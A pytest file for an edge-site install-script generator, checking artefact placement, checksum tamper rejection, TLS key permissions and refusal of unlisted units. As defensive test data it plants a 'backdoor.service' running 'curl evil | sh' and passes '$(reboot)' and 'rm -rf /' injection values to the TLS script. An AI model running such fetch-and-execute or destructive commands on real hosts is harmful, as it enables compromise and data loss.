"""The EdgeSite install script against REAL bundles (the builder's output for the dev
stack's austin-lab site, as k3s and as a systemd CPU site), run with bash into a
temporary root, with recording shims for ``k3s``, ``podman``, ``systemctl``,
``launchctl``, ``umoci`` and ``curl``. Every image, manifest and unit must land where
its runtime reads it; a missing listed file stops the install; an unlisted file is
never installed."""

from __future__ import annotations

import base64
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from inferplane.components.edge.bundle import Bundle
from inferplane.components.edge.install import (
    Runtime,
    SiteLayout,
    install_script,
    runtime_part,
    tls_script,
    uninstall_script,
)
from inferplane.components.edge.layout import InstallPlan, ModelWeights
from tests.support.edgesite import (
    FakeSite,
    SiteBundle,
    build_site_bundle,
    dev_spec,
    fetch_images,
    systemd_spec,
)
from tests.support.routersource import router_source

HEALTH = "https://127.0.0.1:8088/healthz"


@pytest.fixture(scope="module")
def k3s_bundle(tmp_path_factory: pytest.TempPathFactory) -> tuple[SiteBundle, Bundle]:
    tmp = tmp_path_factory.mktemp("k3s")
    built = build_site_bundle(dev_spec(), "dev", "austin-lab", router_source(), tmp / "b")
    return built, fetch_images(built, tmp / "fetch")


@pytest.fixture(scope="module")
def systemd_bundle(tmp_path_factory: pytest.TempPathFactory) -> tuple[SiteBundle, Bundle]:
    tmp = tmp_path_factory.mktemp("systemd")
    built = build_site_bundle(systemd_spec(), "dev", "austin-lab", router_source(), tmp / "b")
    return built, fetch_images(built, tmp / "fetch")


class Site(FakeSite):
    def __init__(self, tmp: Path, built: SiteBundle) -> None:
        super().__init__(tmp)
        self.layout = SiteLayout(root=str(self.root))
        self.base = self.root / "opt/inferplane"
        self.built = built
        self.healthy = True

    def provision_tls(self) -> None:
        """What EdgeSite's ``tls`` command does before the install."""
        secrets = self.built.built.secrets
        script = tls_script(
            "k3s", secrets.cert.read_text(), secrets.key.read_text(), secrets.ca.read_text(),
            self.layout,
        )  # fmt: skip
        done = self.run(["bash", "-s"], script)
        assert done.returncode == 0, done.stderr

    def upload(self, bundle: Bundle, nested: bool = False) -> None:
        """What CopyToRemote leaves on the site."""
        target = self.base / "incoming" / bundle.digest
        if nested:
            target = target / bundle.directory.name
        shutil.copytree(bundle.directory, target)

    def install(
        self, bundle: Bundle, runtime: Runtime = "k3s", wait: int = 30
    ) -> subprocess.CompletedProcess[str]:
        (self.bin / "unhealthy").unlink(missing_ok=True)
        if not self.healthy:
            (self.bin / "unhealthy").touch()
        script = install_script(
            runtime,
            bundle.digest,
            bundle.checksums(),
            HEALTH,
            bundle.plan,
            layout=self.layout,
            wait_seconds=wait,
        )
        return self.run(["bash", "-s"], script)


@pytest.fixture
def k3s_site(tmp_path: Path, k3s_bundle: tuple[SiteBundle, Bundle]) -> Site:
    site = Site(tmp_path, k3s_bundle[0])
    site.provision_tls()
    return site


@pytest.fixture
def systemd_site(tmp_path: Path, systemd_bundle: tuple[SiteBundle, Bundle]) -> Site:
    site = Site(tmp_path, systemd_bundle[0])
    site.provision_tls()
    return site


def _names(paths: tuple[str, ...] | list[str]) -> set[str]:
    return {p.rsplit("/", 1)[-1] for p in paths}


def test_k3s_every_image_manifest_and_registries_land_where_k3s_reads_them(
    k3s_site: Site, k3s_bundle: tuple[SiteBundle, Bundle]
) -> None:
    bundle = k3s_bundle[1]
    plan = bundle.plan
    k3s_site.upload(bundle)
    done = k3s_site.install(bundle)
    assert done.returncode == 0, done.stderr
    release = k3s_site.base / "releases" / bundle.digest
    assert (k3s_site.base / "current").resolve() == release
    # The builder's names: the router's airgap archive and every fetched pinned image.
    assert k3s_site.files("/var/lib/rancher/k3s/agent/images") == {
        "inferplane-router.tar",
        "model-llama-lab.tar",
        "nvidia-device-plugin.tar",
    }
    assert k3s_site.files("/var/lib/rancher/k3s/server/manifests") == {
        "inferplane-router.yaml",
        "inferplane-model-llama-lab.yaml",
        "nvidia-device-plugin.yaml",
        "inferplane-router-tls.yaml",
    }
    for manifest in plan.k3s_manifests:
        installed = (
            k3s_site.root / "var/lib/rancher/k3s/server/manifests" / _names([manifest]).pop()
        )
        assert installed.read_bytes() == (release / manifest).read_bytes()
    assert (k3s_site.root / "etc/rancher/k3s/registries.yaml").read_bytes() == (
        release / "k3s/registries.yaml"
    ).read_bytes()
    calls = k3s_site.calls()
    imports = [c for c in calls if c.startswith("k3s ctr images import")]
    assert imports == [
        f"k3s ctr images import {release}/k3s/agent/images/{name}"
        for name in ("inferplane-router.tar", "model-llama-lab.tar", "nvidia-device-plugin.tar")
    ]
    assert calls.count("systemctl restart k3s") == 1
    ca = k3s_site.root / "etc/inferplane/tls/ca.pem"
    assert calls[-1] == f"curl -fsS --max-time 5 --cacert {ca} {HEALTH}"
    assert f"release {bundle.digest} is live" in done.stdout


def test_k3s_tls_secret_is_built_on_the_site_from_its_certificate(
    k3s_site: Site, k3s_bundle: tuple[SiteBundle, Bundle]
) -> None:
    bundle = k3s_bundle[1]
    k3s_site.upload(bundle)
    assert k3s_site.install(bundle).returncode == 0
    import yaml

    secret = yaml.safe_load(
        (
            k3s_site.root / "var/lib/rancher/k3s/server/manifests/inferplane-router-tls.yaml"
        ).read_text()
    )
    secrets = k3s_bundle[0].built.secrets
    assert secret["metadata"] == {"name": "inferplane-router-tls", "namespace": "inferplane"}
    assert base64.b64decode(secret["data"]["tls.crt"]) == secrets.cert.read_bytes()
    assert base64.b64decode(secret["data"]["tls.key"]) == secrets.key.read_bytes()
    mode = (
        k3s_site.root / "var/lib/rancher/k3s/server/manifests/inferplane-router-tls.yaml"
    ).stat()
    assert mode.st_mode & 0o777 == 0o600


def test_systemd_unpacks_the_router_loads_every_model_image_and_enables_listed_units(
    systemd_site: Site, systemd_bundle: tuple[SiteBundle, Bundle]
) -> None:
    bundle = systemd_bundle[1]
    plan = bundle.plan
    assert [i.name for i in plan.images] == ["model-llama-lab"]  # CPU: no device plugin
    systemd_site.upload(bundle)
    done = systemd_site.install(bundle, runtime="systemd")
    assert done.returncode == 0, done.stderr
    release = systemd_site.base / "releases" / bundle.digest
    units = ["inferplane-model-llama-lab.service", "inferplane-router.service"]
    assert systemd_site.files("/etc/systemd/system") == set(units)
    for unit in units:
        installed = systemd_site.root / "etc/systemd/system" / unit
        assert installed.read_bytes() == (release / "systemd" / unit).read_bytes()
    assert (systemd_site.root / "etc/inferplane/router.json").read_bytes() == (
        release / "systemd/router.json"
    ).read_bytes()
    assert (systemd_site.root / "var/lib/inferplane/router/rootfs").is_dir()
    calls = systemd_site.calls()
    router_root = systemd_site.root / "var/lib/inferplane/router"
    assert (
        f"umoci unpack --image {release}/images/router-oci:{plan.router_oci_tag}-amd64 "
        f"{router_root}.new"
    ) in calls
    # Swapped in, never removed under the running router; the old tree is gone after.
    assert not (systemd_site.root / "var/lib/inferplane/router.new").exists()
    assert not (systemd_site.root / "var/lib/inferplane/router.old").exists()
    # Every model-server image is loaded before the units start: nothing is pulled.
    loads = [c for c in calls if c.startswith("podman ")]
    assert loads == [f"podman load --input {release}/k3s/agent/images/model-llama-lab.tar"]
    assert calls.index(loads[0]) < calls.index(f"systemctl restart {' '.join(units)}")
    assert f"systemctl enable {' '.join(units)}" in calls
    assert not (systemd_site.root / "var/lib/rancher").exists()
    unit = (release / "systemd/inferplane-model-llama-lab.service").read_text()
    assert "--pull=never" in unit


def test_an_unlisted_unit_in_the_bundle_is_never_installed(
    systemd_site: Site, systemd_bundle: tuple[SiteBundle, Bundle]
) -> None:
    bundle = systemd_bundle[1]
    systemd_site.upload(bundle)
    smuggled = systemd_site.base / "incoming" / bundle.digest / "systemd/backdoor.service"
    smuggled.write_text("[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n")
    done = systemd_site.install(bundle, runtime="systemd")
    assert done.returncode == 0, done.stderr
    assert "backdoor.service" not in systemd_site.files("/etc/systemd/system")
    assert not any("backdoor" in call for call in systemd_site.calls())


@pytest.mark.parametrize("runtime", ["k3s", "systemd"])
def test_a_missing_tls_file_stops_the_install(
    tmp_path: Path,
    k3s_bundle: tuple[SiteBundle, Bundle],
    systemd_bundle: tuple[SiteBundle, Bundle],
    runtime: Runtime,
) -> None:
    built, bundle = k3s_bundle if runtime == "k3s" else systemd_bundle
    site = Site(tmp_path, built)  # no TLS provisioned
    site.upload(bundle)
    done = site.install(bundle, runtime=runtime)
    assert done.returncode != 0
    assert f"missing {site.root}/etc/inferplane/tls/tls.crt" in done.stderr
    assert "systemctl enable" not in " ".join(site.calls())


def test_a_listed_file_missing_from_the_release_stops_the_runtime_part(
    tmp_path: Path, systemd_bundle: tuple[SiteBundle, Bundle]
) -> None:
    """The runtime part alone (as install.sh runs it): no silent skip."""
    built, bundle = systemd_bundle
    release = tmp_path / "release"
    shutil.copytree(bundle.directory, release)
    (release / "k3s/agent/images/model-llama-lab.tar").unlink()
    site = Site(tmp_path / "s", built)
    site.provision_tls()
    script = f"set -euo pipefail\nroot={site.root}\nrelease={release}\n" + runtime_part(
        "systemd", bundle.plan
    )
    done = site.run(["bash", "-s"], script)
    assert done.returncode != 0
    assert f"missing {release}/k3s/agent/images/model-llama-lab.tar" in done.stderr
    assert not any(c.startswith(("podman", "systemctl")) for c in site.calls())


def test_rerun_installs_from_the_release_without_restarting_k3s(
    k3s_site: Site, k3s_bundle: tuple[SiteBundle, Bundle]
) -> None:
    bundle = k3s_bundle[1]
    k3s_site.upload(bundle)
    assert k3s_site.install(bundle).returncode == 0
    again = k3s_site.install(bundle)
    assert again.returncode == 0, again.stderr
    assert k3s_site.calls().count("systemctl restart k3s") == 1  # registries.yaml unchanged


def test_copy_nested_one_level_is_found(
    k3s_site: Site, k3s_bundle: tuple[SiteBundle, Bundle]
) -> None:
    bundle = k3s_bundle[1]
    k3s_site.upload(bundle, nested=True)
    done = k3s_site.install(bundle)
    assert done.returncode == 0, done.stderr
    assert (k3s_site.base / "releases" / bundle.digest / "manifest.json").is_file()


def test_tampered_bundle_installs_nothing(
    k3s_site: Site, k3s_bundle: tuple[SiteBundle, Bundle]
) -> None:
    bundle = k3s_bundle[1]
    k3s_site.upload(bundle)
    copied = (
        k3s_site.base / "incoming" / bundle.digest / "k3s/server/manifests/inferplane-router.yaml"
    )
    data = copied.read_bytes()
    copied.write_bytes(data.replace(b"LoadBalancer", b"NodePort\x00\x00\x00\x00"))
    done = k3s_site.install(bundle)
    assert done.returncode != 0
    assert "checksum mismatch, nothing installed" in done.stderr
    assert not (k3s_site.root / "var/lib/rancher").exists()
    assert not (k3s_site.base / "current").exists()
    assert k3s_site.calls() == []


def test_missing_upload_fails(k3s_site: Site, k3s_bundle: tuple[SiteBundle, Bundle]) -> None:
    done = k3s_site.install(k3s_bundle[1])
    assert done.returncode != 0
    assert "not found under" in done.stderr


def test_unhealthy_site_fails_the_install(
    k3s_site: Site, k3s_bundle: tuple[SiteBundle, Bundle]
) -> None:
    bundle = k3s_bundle[1]
    k3s_site.upload(bundle)
    k3s_site.healthy = False
    done = k3s_site.install(bundle, wait=0)
    assert done.returncode != 0
    assert f"{HEALTH} did not answer in 0s" in done.stderr


def test_only_the_last_three_releases_are_kept(
    tmp_path: Path, k3s_bundle: tuple[SiteBundle, Bundle]
) -> None:
    built, bundle = k3s_bundle
    site = Site(tmp_path, built)
    site.provision_tls()
    digests = []
    for i in range(5):
        # Five releases: the same bundle under five digests (the site keys its releases
        # by the digest the deploy names).
        digest = f"{i:x}" * 64
        target = site.base / "incoming" / digest
        shutil.copytree(bundle.directory, target)
        script = install_script(
            "k3s", digest, bundle.checksums(), HEALTH, bundle.plan, layout=site.layout
        )
        done = site.run(["bash", "-s"], script)
        assert done.returncode == 0, done.stderr
        os.utime(site.base / "releases" / digest, (1_000_000 + i, 1_000_000 + i))
        digests.append(digest)
    kept = sorted(p.name for p in (site.base / "releases").iterdir())
    assert len(kept) == 3
    assert digests[-1] in kept


def test_uninstall_deletes_the_objects_then_the_files(
    k3s_site: Site, k3s_bundle: tuple[SiteBundle, Bundle]
) -> None:
    bundle = k3s_bundle[1]
    k3s_site.upload(bundle)
    assert k3s_site.install(bundle).returncode == 0
    done = k3s_site.run(["bash", "-s"], uninstall_script("k3s", bundle.plan, k3s_site.layout))
    assert done.returncode == 0, done.stderr
    manifests = k3s_site.root / "var/lib/rancher/k3s/server/manifests"
    deleted = {c.rsplit("/", 1)[-1] for c in k3s_site.calls() if c.startswith("k3s kubectl delete")}
    assert deleted == {
        "inferplane-router.yaml",
        "inferplane-model-llama-lab.yaml",
        "nvidia-device-plugin.yaml",
        "inferplane-router-tls.yaml",
    }
    assert list(manifests.iterdir()) == []
    assert not (k3s_site.base / "releases").exists()
    assert not (k3s_site.base / "current").exists()


def test_systemd_uninstall_disables_the_listed_units(
    systemd_site: Site, systemd_bundle: tuple[SiteBundle, Bundle]
) -> None:
    bundle = systemd_bundle[1]
    systemd_site.upload(bundle)
    assert systemd_site.install(bundle, runtime="systemd").returncode == 0
    done = systemd_site.run(
        ["bash", "-s"], uninstall_script("systemd", bundle.plan, systemd_site.layout)
    )
    assert done.returncode == 0, done.stderr
    calls = systemd_site.calls()
    assert "systemctl disable --now inferplane-router.service" in calls
    assert "systemctl disable --now inferplane-model-llama-lab.service" in calls
    assert systemd_site.files("/etc/systemd/system") == set()


def test_tls_files_are_written_with_a_private_key_mode(
    k3s_site: Site, k3s_bundle: tuple[SiteBundle, Bundle]
) -> None:
    secrets = k3s_bundle[0].built.secrets
    tls = k3s_site.root / "etc/inferplane/tls"
    assert (tls / "tls.crt").read_bytes() == secrets.cert.read_bytes()
    assert (tls / "tls.key").read_bytes() == secrets.key.read_bytes()
    assert (tls / "ca.pem").read_bytes() == secrets.ca.read_bytes()
    assert (tls / "tls.key").stat().st_mode & 0o777 == 0o600


def test_tls_script_refuses_what_is_not_pem() -> None:
    with pytest.raises(ValueError, match="tls key is not a PEM block"):
        tls_script("k3s", "-----BEGIN CERTIFICATE-----\nAA==\n", "$(reboot)", "-----BEGIN X-----")
    with pytest.raises(ValueError, match="tls cert is not a PEM block"):
        tls_script("k3s", "-----BEGIN CERTIFICATE-----\nPEM\nrm -rf /\n", "x", "y")


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"runtime": "docker"}, "runtime 'docker' is unknown; allowed: k3s, systemd, launchd"),
        ({"wait_seconds": -1}, "wait_seconds -1 is out of range; allowed: 0..7200"),
        ({"checksums": "abc  x"}, "checksums must be sha256sum lines"),
        ({"checksums": "SHA256SUMS\n"}, "checksums must be sha256sum lines"),
        ({"runtime": "launchd"}, "the bundle has no launchd install"),
    ],
)
def test_invalid_script_arguments(
    kwargs: dict[str, object], message: str, k3s_bundle: tuple[SiteBundle, Bundle]
) -> None:
    base: dict[str, Any] = {
        "runtime": "k3s",
        "digest": "0" * 64,
        "checksums": f"{'0' * 64}  a\n",
        "health_url": HEALTH,
        "plan": k3s_bundle[1].plan,
    }
    with pytest.raises(ValueError, match=message):
        install_script(**{**base, **kwargs})


LAUNCHD_PLAN = InstallPlan(
    launchd_plists=("macos/launchd/io.inferplane.router.plist",),
    mac_python="python3.12",
    weights=(ModelWeights("llama-mac", ("models/llama-mac/m.q4_k_m.gguf",), 12),),
)


def test_launchd_installs_packed_weights_where_its_servers_read_them() -> None:
    """llama-server's /models paths map to <mac_root>/models under launchd."""
    script = runtime_part("launchd", LAUNCHD_PLAN)
    assert 'models="$root"/opt/inferplane/models\n' in script
    assert (
        'cmp -s "$release"/models/llama-mac/m.q4_k_m.gguf "$models"/m.q4_k_m.gguf '
        '|| changed="$changed "m.q4_k_m.gguf\n'
    ) in script
    assert script.index("model weights need 12 bytes") < script.index("launchctl bootstrap")


@pytest.mark.parametrize("runtime", ["k3s", "systemd", "launchd"])
def test_scripts_pass_shellcheck(
    runtime: Runtime, tmp_path: Path, k3s_bundle: tuple[SiteBundle, Bundle]
) -> None:
    """Needs the Debian package shellcheck (installed by .ci/run)."""
    checker = shutil.which("shellcheck")
    assert checker is not None, "shellcheck is not installed (apt-get install shellcheck)"
    plan = LAUNCHD_PLAN if runtime == "launchd" else k3s_bundle[1].plan
    install = install_script(
        runtime,
        "a" * 64,
        f"{'b' * 64}  k3s/registries.yaml\n",
        HEALTH,
        plan,
        layout=SiteLayout("/srv/inferplane"),
    )
    scripts = {
        "install": install,
        "uninstall": uninstall_script(runtime, plan),
        "tls": tls_script(
            runtime, "-----BEGIN C-----\nAA==\n", "-----BEGIN K-----\n", "-----BEGIN A-----\n"
        ),
    }
    paths = []
    for name, text in scripts.items():
        path = tmp_path / f"{name}.sh"
        path.write_text(text)
        paths.append(str(path))
    done = subprocess.run(
        [checker, "--shell=bash", "--severity=info", *paths],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout
